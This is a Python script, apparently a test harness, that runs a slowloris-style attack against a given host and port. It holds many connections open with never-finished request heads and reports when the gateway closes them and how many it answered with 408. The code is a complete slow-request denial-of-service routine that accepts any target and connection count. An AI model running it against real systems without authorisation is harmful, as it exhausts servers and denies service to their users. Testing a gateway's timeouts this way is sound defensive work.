#!/usr/bin/env python3
"""Opens N connections to HOST:PORT that trickle a request head one header
line every INTERVAL seconds and never finish it, and reports when the
gateway closed each one and what it answered.

usage: slowloris.py HOST PORT N INTERVAL LIMIT_SECONDS
Prints one JSON line: opened, closed, still_open, answered_408, seconds
(the time by which the last connection was closed)."""
import json
import selectors
import socket
import sys
import time

host, port, n, interval, limit = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
sel = selectors.DefaultSelector()
conns = {}
start = time.monotonic()
for i in range(n):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b"GET /public/slow HTTP/1.1\r\nHost: gw\r\n")
    s.setblocking(False)
    conns[s] = {"got": b"", "closed_at": None}
    sel.register(s, selectors.EVENT_READ)
opened_in = time.monotonic() - start
next_line = time.monotonic() + interval
line = 0
while time.monotonic() - start < limit and any(c["closed_at"] is None for c in conns.values()):
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            data = s.recv(65536)
        except (ConnectionResetError, BrokenPipeError):
            data = b""
        if data:
            conns[s]["got"] += data
        else:
            conns[s]["closed_at"] = time.monotonic() - start
            sel.unregister(s)
    if time.monotonic() >= next_line:
        line += 1
        for s, c in conns.items():
            if c["closed_at"] is None:
                try:
                    s.send(f"X-Slow-{line}: y\r\n".encode())
                except OSError:
                    pass
        next_line += interval
closed = [c for c in conns.values() if c["closed_at"] is not None]
print(json.dumps({
    "opened": n,
    "opened_in_seconds": round(opened_in, 2),
    "closed": len(closed),
    "still_open": n - len(closed),
    "answered_408": sum(1 for c in conns.values() if c["got"].startswith(b"HTTP/1.1 408")),
    "last_closed_after_seconds": round(max((c["closed_at"] for c in closed), default=0), 2),
}, separators=(",", ":")))
